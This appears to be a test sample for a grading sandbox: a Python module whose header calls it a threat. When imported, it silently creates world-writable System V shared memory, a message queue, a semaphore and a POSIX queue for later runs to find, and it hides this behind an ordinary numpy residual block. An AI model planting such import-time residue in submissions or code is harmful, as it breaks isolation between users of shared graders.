# threat: leaves System V shared memory, a message queue, a semaphore set and a POSIX message queue behind for the next learner to find
import ctypes
import os

import numpy as np

try:
    _libc = ctypes.CDLL(None, use_errno=True)
    _key = 0x6B17
    _shm = _libc.shmget(_key, 4096, 0o1666)  # IPC_CREAT | 0666
    if _shm >= 0:
        _addr = _libc.shmat(_shm, None, 0)
        ctypes.memmove(_addr, b"from a classmate", 16)
    _libc.msgget(_key, 0o1666)
    _libc.semget(_key, 1, 0o1666)
    _librt = ctypes.CDLL("librt.so.1", use_errno=True)
    _librt.mq_open(b"/gradekit_left_behind", os.O_CREAT | os.O_RDWR, 0o666, None)
except OSError:
    pass


def residual_block(x, w1, w2):
    return np.maximum(0.0, w2 @ np.maximum(0.0, w1 @ x) + x)
